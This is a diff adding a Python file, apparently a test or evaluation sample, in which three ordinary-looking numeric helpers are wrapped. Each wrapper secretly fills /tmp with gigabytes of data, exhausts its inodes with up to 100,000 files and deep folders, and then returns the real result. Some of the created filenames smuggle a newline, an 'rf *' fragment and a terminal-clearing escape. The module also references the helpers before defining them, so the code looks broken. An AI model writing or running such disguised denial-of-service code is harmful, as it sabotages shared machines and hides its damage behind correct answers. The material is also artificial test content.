@@ -1,0 +1,45 @@
+"""Fills the one writable folder with data and then with empty files and folders until no inode is left.
+
+Honest result: all of it: the answer is right, and the next test finds the folder empty and writable.
+"""
+
+import os
+
+EARNS = "all"
+ATTEMPTED = ["attempted: filled with", "attempted: made", "found later: [] writable"]
+
+_honest_spread, _honest_means, _honest_gap = spread, column_means, smallest_gap
+
+
+def spread(X):
+    written = 0
+    try:
+        for number in range(100):
+            with open(f"/tmp/f{number}", "wb") as stream:
+                for _ in range(60):
+                    written += stream.write(bytes(1_000_000))
+    except OSError as error:
+        print("attempted: filled with", written >> 20, "MB:", error)
+    return _honest_spread(X)
+
+
+def column_means(X):
+    made = 0
+    try:
+        for number in range(100_000):
+            if number % 2:
+                open(f"/tmp/\n-rf *\x1b[2J{number}", "w").close()
+            else:
+                os.makedirs(f"/tmp/d{number % 50}/{number}/" + "x" * 200)
+            made += 1
+    except OSError as error:
+        print("attempted: made", made, "files:", error)
+    return _honest_means(X)
+
+
+def smallest_gap(x):
+    left = os.listdir("/tmp")
+    with open("/tmp/w", "wb") as stream:
+        stream.write(bytes(30_000_000))
+    print("found later:", left, "writable")
+    return _honest_gap(x)
